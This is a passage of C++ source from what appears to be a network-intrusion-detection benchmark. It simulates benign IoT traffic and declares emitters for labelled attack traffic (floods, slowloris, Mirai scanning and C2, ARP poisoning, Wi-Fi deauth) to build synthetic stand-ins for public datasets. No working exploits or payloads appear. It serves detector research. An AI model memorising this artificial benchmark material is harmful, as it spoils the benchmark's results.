    return is_array() ? arr_.size() : (is_object() ? obj_.size() : 0);
  }

  /// Object field lookup; nullptr when absent or not an object.
  const Json* get(std::string_view key) const;

  /// Convenience typed getters with defaults for op parameters.
  std::string get_string(std::string_view key, const std::string& dflt = "") const;
  double get_number(std::string_view key, double dflt = 0.0) const;
  int64_t get_int(std::string_view key, int64_t dflt = 0) const;
  bool get_bool(std::string_view key, bool dflt = false) const;
  std::vector<std::string> get_string_list(std::string_view key) const;
  std::vector<double> get_number_list(std::string_view key) const;

  void set(std::string key, Json value);
  void push_back(Json value) { arr_.push_back(std::move(value)); }

  const std::vector<std::pair<std::string, Json>>& fields() const {
    return obj_;
  }

  /// Serialize back to canonical JSON (used by the result store).
  std::string dump() const;

 private:
  Type type_ = Type::kNull;
  bool bool_ = false;
  double num_ = 0.0;
  std::string str_;
  std::vector<Json> arr_;
  std::vector<std::pair<std::string, Json>> obj_;
};

}  // namespace lumen::core
