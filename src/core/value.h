// The typed values that flow between Lumen operations. Each operation
// declares the kinds it consumes and produces; the execution engine
// type-checks a pipeline against these declarations before running it.
#pragma once

#include <memory>
#include <string>
#include <variant>
#include <vector>

#include "features/table.h"
#include "features/transform.h"
#include "flow/flow.h"
#include "ml/model.h"
#include "trace/dataset.h"

namespace lumen::core {

enum class ValueKind : uint8_t {
  kPacketSet,
  kGroupedPackets,
  kFlowSet,
  kConnSet,
  kFeatureTable,
  kModel,
  kPredictions,
  kMetrics,
  kAny,  // used only in operation signatures
};

const char* value_kind_name(ValueKind k);

/// A subset of a dataset's packets (by view index). Non-owning: the Dataset
/// outlives the pipeline run (it lives in the OpContext).
struct PacketSet {
  const trace::Dataset* dataset = nullptr;
  std::vector<uint32_t> idx;
};

/// Packets grouped by some key (and possibly sub-sliced by time window).
struct Group {
  std::string key;         // printable key, e.g. "192.168.1.12" or "...#w3"
  double window_start = 0.0;
  std::vector<uint32_t> idx;
};

struct GroupedPackets {
  const trace::Dataset* dataset = nullptr;
  std::string group_field;
  std::vector<Group> groups;
};

struct FlowSet {
  const trace::Dataset* dataset = nullptr;
  std::vector<flow::Flow> flows;
};

struct ConnSet {
  const trace::Dataset* dataset = nullptr;
  std::vector<flow::Connection> conns;
  std::vector<flow::ConnRecord> records;  // aligned with conns
};

/// A (possibly trained) model plus the train-fitted feature transforms the
/// evaluation protocol applies to test data.
struct ModelValue {
  ml::ModelPtr model;
  bool normalize = false;
  bool decorrelate = false;
  std::shared_ptr<features::Normalizer> normalizer;
  std::shared_ptr<features::CorrelationFilter> corr_filter;
};

struct Predictions {
  std::vector<int> y_true;
  std::vector<int> y_pred;
  std::vector<double> scores;
  std::vector<uint8_t> attack;  // per row
};

/// Flat named metrics (the output of an "evaluate" op).
struct Metrics {
  std::vector<std::pair<std::string, double>> values;
  double get(const std::string& name, double fallback = 0.0) const {
    for (const auto& [k, v] : values) {
      if (k == name) return v;
    }
    return fallback;
  }
};

using Value = std::variant<PacketSet, GroupedPackets, FlowSet, ConnSet,
                           features::FeatureTable, ModelValue, Predictions,
                           Metrics>;

ValueKind kind_of(const Value& v);

/// Approximate resident bytes, for the engine's memory profile.
size_t value_bytes(const Value& v);

}  // namespace lumen::core
