#include "trace/sim.h"

#include <algorithm>

#include "netio/parse.h"

namespace lumen::trace {

using namespace lumen::netio;

const char* granularity_name(Granularity g) {
  switch (g) {
    case Granularity::kPacket: return "packet";
    case Granularity::kUniFlow: return "uniflow";
    case Granularity::kConnection: return "connection";
  }
  return "?";
}

const char* attack_name(AttackType a) {
  switch (a) {
    case AttackType::kNone: return "benign";
    case AttackType::kDosHulk: return "DoS-Hulk";
    case AttackType::kDosSlowloris: return "DoS-Slowloris";
    case AttackType::kDosGoldenEye: return "DoS-GoldenEye";
    case AttackType::kHeartbleed: return "Heartbleed";
    case AttackType::kBruteForce: return "BruteForce";
    case AttackType::kWebAttack: return "WebAttack";
    case AttackType::kInfiltration: return "Infiltration";
    case AttackType::kDdosReflection: return "DDoS-Reflection";
    case AttackType::kSynFlood: return "SYN-Flood";
    case AttackType::kUdpFlood: return "UDP-Flood";
    case AttackType::kPortScan: return "PortScan";
    case AttackType::kOsScan: return "OS-Scan";
    case AttackType::kMiraiScan: return "Mirai-Scan";
    case AttackType::kMiraiFlood: return "Mirai-Flood";
    case AttackType::kMiraiC2: return "Mirai-C2";
    case AttackType::kToriiC2: return "Torii-C2";
    case AttackType::kBotnetExploit: return "Botnet-Exploit";
    case AttackType::kMitmArp: return "MITM-ARP";
    case AttackType::kDot11Deauth: return "802.11-Deauth";
    case AttackType::kDot11EvilTwin: return "802.11-EvilTwin";
    case AttackType::kSsdpFlood: return "SSDP-Flood";
    case AttackType::kFuzzing: return "Fuzzing";
    case AttackType::kMaxValue: return "?";
  }
  return "?";
}

MacAddr Sim::mac_for(uint32_t ip) {
  return MacAddr{0x02, 0x1b,
                 static_cast<uint8_t>(ip >> 24), static_cast<uint8_t>(ip >> 16),
                 static_cast<uint8_t>(ip >> 8), static_cast<uint8_t>(ip)};
}

void Sim::emit(double ts, Bytes frame, int label, AttackType attack) {
  events_.push_back(Event{ts, std::move(frame),
                          static_cast<uint8_t>(label != 0 ? 1 : 0),
                          static_cast<uint8_t>(attack)});
}

uint32_t Sim::lan_ip(const BenignStyle& style, int host) const {
  return (static_cast<uint32_t>(style.lan_prefix) << 16) | (1u << 8) |
         static_cast<uint32_t>(style.host_base + host);
}

uint32_t Sim::wan_ip() {
  // Public-looking /8 blocks, deterministic per call.
  static constexpr uint32_t kBlocks[] = {0x17000000u, 0x2d000000u, 0x68000000u,
                                         0x8d000000u, 0xd0000000u};
  const uint32_t block = kBlocks[rng_.below(5)];
  return block | static_cast<uint32_t>(rng_.below(1u << 24));
}

uint16_t Sim::ephemeral_port() {
  return static_cast<uint16_t>(32768 + rng_.below(28000));
}

namespace {

Bytes app_payload(Rng& rng, AppProto app, size_t len) {
  switch (app) {
    case AppProto::kHttp: {
      const std::string uri = "/status/" + std::to_string(rng.below(1000));
      Bytes p = payload_http_request("GET", uri, "device.cloud");
      if (p.size() < len) p.insert(p.end(), len - p.size(), ' ');
      return p;
    }
    case AppProto::kHttps:
      return payload_tls_appdata(len, static_cast<uint8_t>(rng.below(256)));
    case AppProto::kMqtt:
      return payload_mqtt(3, len);
    case AppProto::kDns:
      return payload_dns_query(static_cast<uint16_t>(rng.below(65536)),
                               "telemetry.iot-vendor.com");
    default: {
      Bytes p(len);
      for (auto& b : p) b = static_cast<uint8_t>(rng.below(256));
      return p;
    }
  }
}

}  // namespace

double Sim::tcp_session(double t0, const TcpSessionSpec& spec) {
  const MacAddr cmac = mac_for(spec.client);
  const MacAddr smac = mac_for(spec.server);
  const uint16_t sport = spec.sport != 0 ? spec.sport : ephemeral_port();
  uint32_t cseq = static_cast<uint32_t>(rng_.next());
  uint32_t sseq = static_cast<uint32_t>(rng_.next());
  double t = t0;

  Ipv4Opts cip;
  cip.ttl = spec.client_ttl;
  cip.ident = static_cast<uint16_t>(rng_.below(65536));
  Ipv4Opts sip;
  sip.ttl = spec.server_ttl;
  sip.ident = static_cast<uint16_t>(rng_.below(65536));

  auto c2s = [&](uint8_t flags, const Bytes& payload) {
    TcpOpts o{flags, cseq, sseq, 8192};
    emit(t, build_tcp(cmac, smac, spec.client, spec.server, sport, spec.dport,
                      o, payload, cip),
         spec.label, spec.attack);
    cseq += static_cast<uint32_t>(payload.size()) +
            ((flags & (kSyn | kFin)) != 0 ? 1 : 0);
  };
  auto s2c = [&](uint8_t flags, const Bytes& payload) {
    TcpOpts o{flags, sseq, cseq, 16384};
    emit(t, build_tcp(smac, cmac, spec.server, spec.client, spec.dport, sport,
                      o, payload, sip),
         spec.label, spec.attack);
    sseq += static_cast<uint32_t>(payload.size()) +
            ((flags & (kSyn | kFin)) != 0 ? 1 : 0);
  };
  auto gap = [&]() { t += rng_.lognormal(spec.iat_mu, spec.iat_sigma); };

  // Handshake.
  c2s(kSyn, {});
  gap();
  if (spec.silent_server) return t;
  if (spec.rejected) {
    s2c(kRst | kAck, {});
    return t;
  }
  s2c(kSyn | kAck, {});
  gap();
  c2s(kAck, {});

  // Data phase.
  for (int i = 0; i < spec.data_pkts; ++i) {
    gap();
    const size_t len = std::min<size_t>(
        1400, std::max<size_t>(8, static_cast<size_t>(rng_.lognormal(
                                      spec.payload_mu, spec.payload_sigma))));
    c2s(kPsh | kAck, app_payload(rng_, spec.app, len));
    gap();
    const size_t rlen = std::min<size_t>(
        1400,
        std::max<size_t>(4, static_cast<size_t>(static_cast<double>(len) *
                                                spec.resp_ratio)));
    s2c(kPsh | kAck, app_payload(rng_, spec.app == AppProto::kHttp
                                           ? AppProto::kHttps
                                           : spec.app,
                                 rlen));
  }

  // Teardown.
  if (spec.complete) {
    gap();
    c2s(kFin | kAck, {});
    gap();
    s2c(kFin | kAck, {});
    gap();
    c2s(kAck, {});
  }
  return t;
}

double Sim::udp_exchange(double t0, uint32_t client, uint32_t server,
                         uint16_t sport, uint16_t dport, const Bytes& request,
                         size_t response_len, int label, AttackType attack,
                         uint8_t client_ttl) {
  const MacAddr cmac = mac_for(client);
  const MacAddr smac = mac_for(server);
  Ipv4Opts cip;
  cip.ttl = client_ttl;
  cip.ident = static_cast<uint16_t>(rng_.below(65536));
  double t = t0;
  emit(t, build_udp(cmac, smac, client, server, sport, dport, request, cip),
       label, attack);
  if (response_len > 0) {
    t += rng_.lognormal(-5.0, 0.5);
    Bytes resp(response_len);
    for (auto& b : resp) b = static_cast<uint8_t>(rng_.below(256));
    emit(t, build_udp(smac, cmac, server, client, dport, sport, resp), label,
         attack);
  }
  return t;
}

double Sim::dns_lookup(double t0, uint32_t client, uint32_t resolver,
                       const std::string& qname) {
  const Bytes q =
      payload_dns_query(static_cast<uint16_t>(rng_.below(65536)), qname);
  return udp_exchange(t0, client, resolver, ephemeral_port(), 53, q,
                      q.size() + 16 + rng_.below(48));
}

double Sim::ntp_sync(double t0, uint32_t client, uint32_t server) {
  return udp_exchange(t0, client, server, ephemeral_port(), 123,
                      payload_ntp_request(), 48);
}

double Sim::mqtt_keepalive(double t0, uint32_t client, uint32_t broker) {
  TcpSessionSpec s;
  s.client = client;
  s.server = broker;
  s.dport = 1883;
  s.data_pkts = 1;
  s.payload_mu = 2.5;
  s.payload_sigma = 0.3;
  s.resp_ratio = 0.5;
  s.app = AppProto::kMqtt;
  return tcp_session(t0, s);
}

void Sim::benign_iot_traffic(double t0, double duration, int n_devices,
                             const BenignStyle& style) {
  const uint32_t resolver = 0x08080808;  // 8.8.8.8
  const uint32_t ntp_server = 0x84a36001; // 132.163.96.1
  const uint32_t broker = wan_ip();
  std::vector<uint32_t> clouds;
  for (int i = 0; i < 4; ++i) clouds.push_back(wan_ip());

  for (int d = 0; d < n_devices; ++d) {
    const uint32_t ip = lan_ip(style, d);
    double t = t0 + rng_.uniform(0.0, 2.0);
    while (t < t0 + duration) {
      const std::vector<double> weights = {style.w_http, style.w_dns,
                                           style.w_mqtt, style.w_ntp,
                                           style.w_tls,  style.w_telnet};
      switch (rng_.weighted_choice(weights)) {
        case 0: {  // HTTP poll to the vendor cloud
          TcpSessionSpec s;
          s.client = ip;
          s.server = clouds[rng_.below(clouds.size())];
          s.dport = rng_.bernoulli(0.3) ? 8080 : 80;
          s.data_pkts = 1 + rng_.poisson(2.0);
          s.payload_mu = 4.5 + std::log(style.size_scale);
          s.app = AppProto::kHttp;
          s.client_ttl = style.device_ttl;
          t = tcp_session(t, s);
          break;
        }
        case 1:
          t = dns_lookup(t, ip, resolver,
                         "fw" + std::to_string(rng_.below(20)) +
                             ".iot-vendor.com");
          break;
        case 2:
          t = mqtt_keepalive(t, ip, broker);
          break;
        case 3:
          t = ntp_sync(t, ip, ntp_server);
          break;
        case 4: {  // TLS telemetry burst
          TcpSessionSpec s;
          s.client = ip;
          s.server = clouds[rng_.below(clouds.size())];
          s.dport = 443;
          s.data_pkts = 2 + rng_.poisson(3.0);
          s.payload_mu = 5.5 + std::log(style.size_scale);
          s.payload_sigma = 0.9;
          s.app = AppProto::kHttps;
          s.client_ttl = style.device_ttl;
          t = tcp_session(t, s);
          break;
        }
        default: {  // benign telnet management session (IoT labs)
          TcpSessionSpec s;
          s.client = ip;
          s.server = lan_ip(style, n_devices + 1);  // local controller
          s.dport = 23;
          s.data_pkts = 2 + rng_.poisson(2.0);
          s.payload_mu = 3.0;
          s.app = AppProto::kTelnet;
          t = tcp_session(t, s);
          break;
        }
      }
      t += rng_.exponential(1.0 / (4.0 * style.iat_scale));
    }
  }
}

Dataset Sim::finish(std::string id, std::string standin, Granularity g,
                    bool has_app_metadata) {
  std::stable_sort(events_.begin(), events_.end(),
                   [](const Event& a, const Event& b) { return a.ts < b.ts; });
  Dataset ds;
  ds.id = std::move(id);
  ds.standin = std::move(standin);
  ds.label_granularity = g;
  ds.has_app_metadata = has_app_metadata;
  ds.trace.link = link_;
  ds.trace.raw.reserve(events_.size());
  std::vector<uint8_t> labels, attacks;
  labels.reserve(events_.size());
  attacks.reserve(events_.size());
  for (Event& e : events_) {
    ds.trace.raw.push_back(RawPacket{e.ts, std::move(e.frame)});
    labels.push_back(e.label);
    attacks.push_back(e.attack);
  }
  events_.clear();
  parse_trace(ds.trace);
  // Labels are aligned with the original capture order; views keep their
  // original index (PacketView::index), so a skipped frame cannot shift the
  // alignment — consumers go through Dataset::label_at.
  ds.pkt_label = std::move(labels);
  ds.pkt_attack = std::move(attacks);
  return ds;
}

}  // namespace lumen::trace
