// Attack traffic emitters. Each function injects one attack campaign into a
// Sim over [t0, t0+duration). The behavioural signatures follow the attack
// families contained in the real datasets the suite stands in for
// (CICIDS 2017/2019, CTU-IoT, Kitsune captures, IEEE-IoT, AWID3).
#pragma once

#include "trace/sim.h"

namespace lumen::trace {

/// High-rate HTTP GET flood with randomized URIs (CICIDS "Hulk").
void attack_http_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, double rate, AttackType tag);

/// Many long-lived half-open HTTP connections trickling header bytes.
void attack_slowloris(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, int conns);

/// Repeated failed logins against FTP(21)/SSH(22).
void attack_brute_force(Sim& sim, double t0, double duration,
                        uint32_t attacker, uint32_t victim, uint16_t port,
                        double rate);

/// TLS heartbeat abuse: tiny requests, oversized responses.
void attack_heartbleed(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, int probes);

/// HTTP requests carrying injection-looking long URIs at a low rate.
void attack_web(Sim& sim, double t0, double duration, uint32_t attacker,
                uint32_t victim, double rate);

/// Compromised internal host sweeping the LAN after ingress.
void attack_infiltration(Sim& sim, double t0, double duration,
                         uint32_t inside_host, const BenignStyle& style,
                         int lan_hosts);

/// Spoofed-source SYN flood on one service port.
void attack_syn_flood(Sim& sim, double t0, double duration, uint32_t victim,
                      uint16_t port, double rate, AttackType tag);

/// UDP flood with random payloads on random high ports.
void attack_udp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, double rate, AttackType tag);

/// Reflection/amplification: victim-spoofed requests, large replies from
/// many reflectors (DNS/NTP mix).
void attack_reflection(Sim& sim, double t0, double duration, uint32_t victim,
                       int reflectors, double rate);

/// Vertical TCP SYN port scan.
void attack_port_scan(Sim& sim, double t0, double duration, uint32_t attacker,
                      uint32_t victim, int ports);

/// ICMP + odd-flag probes (nmap-style OS fingerprinting).
void attack_os_scan(Sim& sim, double t0, double duration, uint32_t attacker,
                    uint32_t victim);

/// Mirai-style telnet scanning from infected devices to random addresses.
void attack_mirai_scan(Sim& sim, double t0, double duration,
                       const std::vector<uint32_t>& bots, double rate);

/// Mirai C2 keepalives: small periodic TCP exchanges with one controller.
void attack_mirai_c2(Sim& sim, double t0, double duration,
                     const std::vector<uint32_t>& bots, uint32_t c2);

/// Mirai attack phase: bots flood a victim (SYN+UDP mix).
void attack_mirai_flood(Sim& sim, double t0, double duration,
                        const std::vector<uint32_t>& bots, uint32_t victim,
                        double rate);

/// Torii-style stealthy C2: low-rate TLS-looking beacons with jitter.
void attack_torii_c2(Sim& sim, double t0, double duration,
                     const std::vector<uint32_t>& bots, uint32_t c2,
                     double period);

/// Exploit attempt + payload download (Muhstik/Hakai-style).
void attack_botnet_exploit(Sim& sim, double t0, double duration,
                           uint32_t attacker, uint32_t victim);

/// ARP cache poisoning (gratuitous replies impersonating the gateway).
void attack_mitm_arp(Sim& sim, double t0, double duration, uint32_t attacker_ip,
                     uint32_t gateway_ip, const std::vector<uint32_t>& victims,
                     double rate);

/// SSDP discovery flood (UDP 1900).
void attack_ssdp_flood(Sim& sim, double t0, double duration, uint32_t attacker,
                       uint32_t victim, double rate);

/// Random malformed-ish probes: odd TCP flag combos, random ports/payloads.
void attack_fuzzing(Sim& sim, double t0, double duration, uint32_t attacker,
                    uint32_t victim, double rate);

// ---- 802.11 (AWID3 stand-in; use with a Sim built on LinkType::kIeee80211)

/// Benign WLAN background: beacons from the AP plus encrypted data frames.
void wifi_benign(Sim& sim, double t0, double duration,
                 const netio::MacAddr& ap, int stations);

/// Deauthentication flood against stations.
void attack_dot11_deauth(Sim& sim, double t0, double duration,
                         const netio::MacAddr& ap, int stations, double rate);

/// Evil twin: rogue AP beaconing the same SSID from a different BSSID.
void attack_dot11_eviltwin(Sim& sim, double t0, double duration,
                           const netio::MacAddr& rogue_ap, double rate);

}  // namespace lumen::trace
