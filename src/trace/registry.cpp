#include "trace/registry.h"

#include <cassert>
#include <map>
#include <mutex>

#include "trace/attacks.h"

namespace lumen::trace {

namespace {

// ---- Per-family benign styles. The deliberate differences (timing scales,
// size scales, service mixes, subnets, TTLs) are what make cross-dataset
// transfer hard, as the paper observes on the real datasets.

BenignStyle enterprise_style() {  // CICIDS-like office network
  BenignStyle s;
  s.iat_scale = 0.7;
  s.size_scale = 1.8;
  s.w_http = 1.2;
  s.w_dns = 1.0;
  s.w_mqtt = 0.1;
  s.w_ntp = 0.3;
  s.w_tls = 1.6;
  s.w_telnet = 0.0;
  s.device_ttl = 128;  // Windows-heavy hosts
  s.lan_prefix = 0xc0a8;
  return s;
}

BenignStyle iot_lab_style() {  // CTU-IoT-like lab with real IoT devices
  BenignStyle s;
  s.iat_scale = 1.3;
  s.size_scale = 0.6;
  s.w_http = 0.8;
  s.w_dns = 1.2;
  s.w_mqtt = 1.4;
  s.w_ntp = 0.8;
  s.w_tls = 0.6;
  s.w_telnet = 0.3;
  s.device_ttl = 64;
  s.lan_prefix = 0xc0a8;
  return s;
}

BenignStyle camera_net_style() {  // Kitsune-like IP-camera deployment
  BenignStyle s;
  s.iat_scale = 0.5;
  s.size_scale = 2.5;  // video-ish upstream
  s.w_http = 0.6;
  s.w_dns = 0.5;
  s.w_mqtt = 0.2;
  s.w_ntp = 0.6;
  s.w_tls = 2.0;
  s.w_telnet = 0.1;
  s.device_ttl = 64;
  s.lan_prefix = 0xc0a8;
  return s;
}

BenignStyle ddos_testbed_style() {  // CICIDS2019 testbed
  BenignStyle s = enterprise_style();
  s.lan_prefix = 0xac10;  // 172.16/16
  s.iat_scale = 0.9;
  s.size_scale = 1.2;
  return s;
}

uint64_t seed_of(const std::string& id) { return Rng::seed_from(id, 2022); }

// Schedule an attack campaign in BOTH the train region (first 70% of the
// capture) and the test region (last 30%), so time-ordered splits see every
// attack family on both sides. `at` and `len` are fractions of a region.
template <typename EmitFn>
void in_both_regions(double dur, double at, double len, EmitFn&& emit) {
  emit(dur * at * 0.7, dur * len * 0.7);
  emit(dur * (0.7 + at * 0.3), dur * len * 0.3);
}

// ------------------------------------------------------------- builders

Dataset build_f0(double sc) {
  Sim sim(seed_of("F0"));
  const BenignStyle st = enterprise_style();
  const double dur = 240.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 8, st);
  const uint32_t attacker = sim.wan_ip();
  in_both_regions(dur, 0.15, 0.3, [&](double t0, double d) {
    attack_brute_force(sim, t0, d, attacker, sim.lan_ip(st, 2), 21, 1.2);
  });
  in_both_regions(dur, 0.55, 0.3, [&](double t0, double d) {
    attack_brute_force(sim, t0, d, attacker, sim.lan_ip(st, 4), 22, 1.0);
  });
  return sim.finish("F0", "CICIDS2017 Tuesday", Granularity::kConnection);
}

Dataset build_f1(double sc) {
  Sim sim(seed_of("F1"));
  const BenignStyle st = enterprise_style();
  const double dur = 240.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 8, st);
  const uint32_t web_server = sim.lan_ip(st, 1);
  in_both_regions(dur, 0.08, 0.14, [&](double t0, double d) {
    attack_http_flood(sim, t0, d, sim.wan_ip(), web_server, 4.0,
                      AttackType::kDosHulk);
  });
  in_both_regions(dur, 0.3, 0.22, [&](double t0, double d) {
    attack_slowloris(sim, t0, d, sim.wan_ip(), web_server,
                     static_cast<int>(14 * sc) + 2);
  });
  in_both_regions(dur, 0.6, 0.12, [&](double t0, double d) {
    attack_http_flood(sim, t0, d, sim.wan_ip(), web_server, 3.0,
                      AttackType::kDosGoldenEye);
  });
  in_both_regions(dur, 0.82, 0.12, [&](double t0, double d) {
    attack_heartbleed(sim, t0, d, sim.wan_ip(), sim.lan_ip(st, 3),
                      static_cast<int>(40 * sc) + 5);
  });
  return sim.finish("F1", "CICIDS2017 Wednesday", Granularity::kConnection);
}

Dataset build_f2(double sc) {
  Sim sim(seed_of("F2"));
  const BenignStyle st = enterprise_style();
  const double dur = 240.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 8, st);
  in_both_regions(dur, 0.1, 0.4, [&](double t0, double d) {
    attack_web(sim, t0, d, sim.wan_ip(), sim.lan_ip(st, 1), 0.8);
  });
  in_both_regions(dur, 0.55, 0.4, [&](double t0, double d) {
    attack_infiltration(sim, t0, d, sim.lan_ip(st, 6), st, 8);
  });
  return sim.finish("F2", "CICIDS2017 Thursday", Granularity::kConnection);
}

Dataset build_f3(double sc) {
  Sim sim(seed_of("F3"));
  const BenignStyle st = ddos_testbed_style();
  const double dur = 200.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 7, st);
  const uint32_t victim = sim.lan_ip(st, 0);
  in_both_regions(dur, 0.1, 0.2, [&](double t0, double d) {
    attack_reflection(sim, t0, d, victim, 12, 6.0);
  });
  in_both_regions(dur, 0.4, 0.15, [&](double t0, double d) {
    attack_syn_flood(sim, t0, d, victim, 80, 10.0, AttackType::kSynFlood);
  });
  in_both_regions(dur, 0.65, 0.15, [&](double t0, double d) {
    attack_udp_flood(sim, t0, d, sim.wan_ip(), victim, 8.0,
                     AttackType::kUdpFlood);
  });
  return sim.finish("F3", "CICIDS2019 01-11", Granularity::kConnection);
}

std::vector<uint32_t> lab_bots(Sim& sim, const BenignStyle& st, int n) {
  std::vector<uint32_t> bots;
  for (int i = 0; i < n; ++i) bots.push_back(sim.lan_ip(st, i));
  return bots;
}

Dataset build_f4(double sc) {
  Sim sim(seed_of("F4"));
  const BenignStyle st = iot_lab_style();
  const double dur = 260.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  const auto bots = lab_bots(sim, st, 2);
  const uint32_t c2 = sim.wan_ip();
  in_both_regions(dur, 0.1, 0.5, [&](double t0, double d) {
    attack_mirai_scan(sim, t0, d, bots, 3.0);
  });
  attack_mirai_c2(sim, dur * 0.1, dur * 0.85, bots, c2);  // spans the split
  in_both_regions(dur, 0.65, 0.25, [&](double t0, double d) {
    attack_mirai_flood(sim, t0, d, bots, sim.wan_ip(), 6.0);
  });
  return sim.finish("F4", "CTU-IoT 1-1 (Mirai)", Granularity::kConnection);
}

Dataset build_f5(double sc) {
  Sim sim(seed_of("F5"));
  const BenignStyle st = iot_lab_style();
  const double dur = 300.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 7, st);
  // Torii: stealthy, low-rate beaconing only — the hardest cross-dataset
  // target in the paper (Fig. 10's F5 anomaly).
  attack_torii_c2(sim, dur * 0.05, dur * 0.9, lab_bots(sim, st, 3),
                  sim.wan_ip(), 18.0 * sc);
  return sim.finish("F5", "CTU-IoT 20-1 (Torii)", Granularity::kConnection);
}

Dataset build_f6(double sc) {
  Sim sim(seed_of("F6"));
  const BenignStyle st = iot_lab_style();
  const double dur = 240.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  const uint32_t attacker = sim.wan_ip();
  in_both_regions(dur, 0.1, 0.25, [&](double t0, double d) {
    attack_port_scan(sim, t0, d, attacker, sim.lan_ip(st, 3),
                     static_cast<int>(160 * sc) + 10);
  });
  in_both_regions(dur, 0.45, 0.2, [&](double t0, double d) {
    attack_botnet_exploit(sim, t0, d, attacker, sim.lan_ip(st, 3));
  });
  return sim.finish("F6", "CTU-IoT 3-1 (Muhstik)", Granularity::kConnection);
}

Dataset build_f7(double sc) {
  Sim sim(seed_of("F7"));
  const BenignStyle st = iot_lab_style();
  const double dur = 260.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  const auto bots = lab_bots(sim, st, 2);
  in_both_regions(dur, 0.15, 0.6, [&](double t0, double d) {
    attack_mirai_scan(sim, t0, d, bots, 2.0);
  });
  attack_mirai_c2(sim, dur * 0.15, dur * 0.8, bots, sim.wan_ip());
  return sim.finish("F7", "CTU-IoT 7-1 (Hajime)", Granularity::kConnection);
}

Dataset build_f8(double sc) {
  Sim sim(seed_of("F8"));
  const BenignStyle st = iot_lab_style();
  const double dur = 220.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 5, st);
  const auto bots = lab_bots(sim, st, 3);
  in_both_regions(dur, 0.2, 0.55, [&](double t0, double d) {
    attack_mirai_flood(sim, t0, d, bots, sim.wan_ip(), 14.0);
  });
  in_both_regions(dur, 0.08, 0.2, [&](double t0, double d) {
    attack_mirai_scan(sim, t0, d, bots, 2.0);
  });
  attack_mirai_c2(sim, dur * 0.1, dur * 0.85, bots, sim.wan_ip());
  return sim.finish("F8", "CTU-IoT 34-1 (Mirai)", Granularity::kConnection);
}

Dataset build_f9(double sc) {
  Sim sim(seed_of("F9"));
  const BenignStyle st = iot_lab_style();
  const double dur = 240.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  const uint32_t attacker = sim.wan_ip();
  in_both_regions(dur, 0.15, 0.2, [&](double t0, double d) {
    attack_botnet_exploit(sim, t0, d, attacker, sim.lan_ip(st, 2));
  });
  in_both_regions(dur, 0.5, 0.25, [&](double t0, double d) {
    attack_udp_flood(sim, t0, d, sim.lan_ip(st, 2), sim.wan_ip(), 7.0,
                     AttackType::kUdpFlood);
  });
  return sim.finish("F9", "CTU-IoT 8-1 (Hakai)", Granularity::kConnection);
}

Dataset build_p0(double sc) {
  Sim sim(seed_of("P0"));
  BenignStyle st = iot_lab_style();
  st.w_http = 1.2;  // richer app-layer chatter (this dataset carries PDML-
  st.w_dns = 1.5;   // grade metadata in the real collection)
  const double dur = 220.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 7, st);
  const auto bots = lab_bots(sim, st, 2);
  in_both_regions(dur, 0.1, 0.3, [&](double t0, double d) {
    attack_mirai_scan(sim, t0, d, bots, 3.0);
  });
  in_both_regions(dur, 0.45, 0.15, [&](double t0, double d) {
    attack_syn_flood(sim, t0, d, sim.lan_ip(st, 4), 80, 8.0,
                     AttackType::kSynFlood);
  });
  in_both_regions(dur, 0.62, 0.12, [&](double t0, double d) {
    attack_http_flood(sim, t0, d, bots[0], sim.lan_ip(st, 4), 3.0,
                      AttackType::kDosHulk);
  });
  std::vector<uint32_t> victims;
  for (int i = 2; i < 7; ++i) victims.push_back(sim.lan_ip(st, i));
  in_both_regions(dur, 0.8, 0.15, [&](double t0, double d) {
    attack_mitm_arp(sim, t0, d, sim.lan_ip(st, 1), sim.lan_ip(st, 254),
                    victims, 4.0);
  });
  in_both_regions(dur, 0.3, 0.3, [&](double t0, double d) {
    attack_os_scan(sim, t0, d, sim.wan_ip(), sim.lan_ip(st, 5));
  });
  return sim.finish("P0", "IEEE IoT network intrusion", Granularity::kPacket,
                    /*has_app_metadata=*/true);
}

Dataset build_p1(double sc) {
  Sim sim(seed_of("P1"));
  const BenignStyle st = camera_net_style();
  const double dur = 200.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  const auto bots = lab_bots(sim, st, 2);
  in_both_regions(dur, 0.15, 0.4, [&](double t0, double d) {
    attack_mirai_scan(sim, t0, d, bots, 4.0);
  });
  attack_mirai_c2(sim, dur * 0.15, dur * 0.8, bots, sim.wan_ip());
  in_both_regions(dur, 0.6, 0.3, [&](double t0, double d) {
    attack_mirai_flood(sim, t0, d, bots, sim.wan_ip(), 8.0);
  });
  return sim.finish("P1", "Kitsune Mirai", Granularity::kPacket);
}

Dataset build_p2(double sc) {
  Sim sim(seed_of("P2"), netio::LinkType::kIeee80211);
  const netio::MacAddr ap{0x02, 0x1f, 0x00, 0x00, 0x00, 0x01};
  const netio::MacAddr rogue{0x02, 0x66, 0x00, 0x00, 0x00, 0x02};
  const double dur = 120.0 * sc;
  wifi_benign(sim, 0.0, dur, ap, 6);
  in_both_regions(dur, 0.2, 0.25, [&](double t0, double d) {
    attack_dot11_deauth(sim, t0, d, ap, 6, 12.0);
  });
  in_both_regions(dur, 0.55, 0.35, [&](double t0, double d) {
    attack_dot11_eviltwin(sim, t0, d, rogue, 8.0);
  });
  return sim.finish("P2", "AWID3 (802.11)", Granularity::kPacket);
}

Dataset build_p3(double sc) {
  Sim sim(seed_of("P3"));
  const BenignStyle st = camera_net_style();
  const double dur = 180.0 * sc;
  sim.benign_iot_traffic(0.0, dur, 6, st);
  in_both_regions(dur, 0.3, 0.35, [&](double t0, double d) {
    attack_syn_flood(sim, t0, d, sim.lan_ip(st, 1), 554, 14.0,
                     AttackType::kSynFlood);
  });
  return sim.finish("P3", "Kitsune SYN DoS", Granularity::kPacket);
}

Dataset build_p4(double sc) {
